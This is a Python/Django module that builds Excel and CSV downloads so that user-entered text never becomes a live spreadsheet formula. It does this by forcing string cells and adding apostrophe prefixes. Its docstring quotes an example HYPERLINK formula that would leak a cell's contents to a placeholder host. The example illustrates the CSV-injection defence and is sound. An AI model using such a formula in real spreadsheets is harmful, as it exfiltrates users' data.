"""Excel and CSV downloads in which no cell of user text ever becomes a formula.

A title such as ``=HYPERLINK("http://example.invalid/?leak="&A1,"点击")`` typed on the portal
must reach the county's spreadsheet as the text it is. In .xlsx every string is written as a
string cell (openpyxl would otherwise store a leading ``=`` as a live formula), characters XML
cannot hold are dropped, and aware datetimes become Asia/Shanghai wall-clock times (Excel has no
time zones). In CSV, which has no cell types, a text beginning with ``= + - @``, a tab or a
carriage return gets a leading apostrophe, as OWASP's CSV-injection advice says, so a
spreadsheet shows it as text.

Every export uses `xlsx_response` or `csv_response` (or `xlsx_cells` / `csv_cell` when it builds
its own file).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from datetime import datetime

from django.http import HttpResponse
from django.utils import timezone
from django.utils.functional import Promise
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
from openpyxl.worksheet._write_only import WriteOnlyWorksheet

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV = "text/csv; charset=utf-8"
_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _plain(value: object) -> object:
    if isinstance(value, Promise):
        return str(value)
    if isinstance(value, datetime) and timezone.is_aware(value):
        return timezone.localtime(value).replace(tzinfo=None)
    return value


def xlsx_cells(sheet: WriteOnlyWorksheet, values: Iterable[object]) -> list[Cell]:
    """One row of cells: strings as string cells, never formulas; numbers, dates as such."""
    cells = []
    for value in values:
        value = _plain(value)
        if isinstance(value, str):
            cell = WriteOnlyCell(sheet, ILLEGAL_CHARACTERS_RE.sub("", value))
            cell.data_type = "s"  # a leading '=' made it a formula: it is text
        else:
            cell = WriteOnlyCell(sheet, value)  # type: ignore[arg-type] # numbers, dates, None
        cells.append(cell)
    return cells


def xlsx_bytes(
    rows: Iterable[Sequence[object]],
    *,
    sheet_title: str,
    preface: tuple[str, Sequence[Sequence[object]]] | None = None,
) -> bytes:
    """The rows (the first is the header) as an .xlsx workbook; a `preface` (title, rows) is a
    sheet before them, the one the workbook opens on."""
    book = Workbook(write_only=True)
    if preface is not None:
        note = book.create_sheet(preface[0][:31])
        for row in preface[1]:
            note.append(xlsx_cells(note, row))
    sheet = book.create_sheet(sheet_title[:31])
    for row in rows:
        sheet.append(xlsx_cells(sheet, row))
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def xlsx_response(
    rows: Iterable[Sequence[object]],
    *,
    sheet_title: str,
    filename: str,
    preface: tuple[str, Sequence[Sequence[object]]] | None = None,
) -> HttpResponse:
    """The rows as an .xlsx download named `filename`.xlsx (see `xlsx_bytes`)."""
    data = xlsx_bytes(rows, sheet_title=sheet_title, preface=preface)
    response = HttpResponse(data, content_type=XLSX)
    response["Content-Disposition"] = f'attachment; filename="{filename}.xlsx"'
    return response


def csv_cell(value: object) -> str:
    """The value as CSV text, a would-be formula made plain text by a leading apostrophe."""
    value = _plain(value)
    if value is None:
        return ""
    if isinstance(value, datetime):
        return value.strftime("%Y-%m-%d %H:%M")
    text = str(value)
    if isinstance(value, str) and text.startswith(_FORMULA_STARTS):
        return "'" + text
    return text


def csv_response(rows: Iterable[Sequence[object]], *, filename: str) -> HttpResponse:
    """The rows as a UTF-8 CSV download (with the byte-order mark Excel needs for Chinese)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    for row in rows:
        writer.writerow([csv_cell(value) for value in row])
    response = HttpResponse(("\ufeff" + buffer.getvalue()).encode(), content_type=CSV)
    response["Content-Disposition"] = f'attachment; filename="{filename}.csv"'
    return response
